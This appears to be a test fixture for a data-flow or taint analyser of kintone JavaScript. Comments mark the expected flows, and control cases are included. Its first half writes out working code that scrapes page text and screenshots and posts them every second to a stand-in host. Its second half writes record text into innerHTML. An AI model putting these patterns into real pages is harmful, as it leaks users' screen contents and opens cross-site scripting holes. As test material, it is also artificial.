// What the screen shows, read back by observers, from elements, or as a picture.
const kept = [];
new MutationObserver((list) => {
  list.forEach((one) => {
    Array.prototype.forEach.call(one.addedNodes, (node) => kept.push({ text: node.innerText || node.textContent }));
  });
}).observe(document.body, { childList: true, subtree: true });
setInterval(() => {
  fetch('https://a.example/', { method: 'POST', body: JSON.stringify(kept) }); // flow: screen -> request-body
}, 1000);
fetch('https://a.example/', { method: 'POST', body: document.body.innerText }); // flow: screen -> request-body
fetch('https://a.example/', { method: 'POST', body: document.querySelector('.x').textContent }); // flow: screen -> request-body
html2canvas(document.body).then((canvas) => {
  fetch('https://a.example/', { method: 'POST', body: canvas.toDataURL() }); // flow: screen -> request-body
});
const own = document.createElement('p');
own.textContent = 'x';
fetch('https://a.example/', { method: 'POST', body: own.textContent });
fetch('https://a.example/', { method: 'POST', body: document.title });
fetch('https://a.example/', { method: 'POST', body: String(document.body.children.length) });
// Whoever watches an element of the page's own is shown that very element.
kintone.events.on('app.record.detail.show', (event) => {
  const board = document.createElement('div');
  const copy = document.createElement('div');
  const plate = document.createElement('div');
  plate.textContent = '掲示板';
  const watch = new MutationObserver((changes) => {
    for (const change of changes) {
      copy.innerHTML = change.target.textContent; // flow: record -> html // flow: screen -> html
      copy.textContent = change.target.textContent;
      copy.innerHTML = change.addedNodes.length;
    }
  });
  watch.observe(board, { childList: true });
  board.textContent = event.record.掲示.value;
  const sight = new IntersectionObserver(([entry]) => {
    copy.innerHTML = entry.target.title; // flow: record -> html
  });
  board.title = event.record.題名.value;
  sight.observe(board);
  new ResizeObserver((entries) => entries.forEach((entry) => (copy.innerHTML = entry.target.textContent))).observe(plate);
  return event;
});
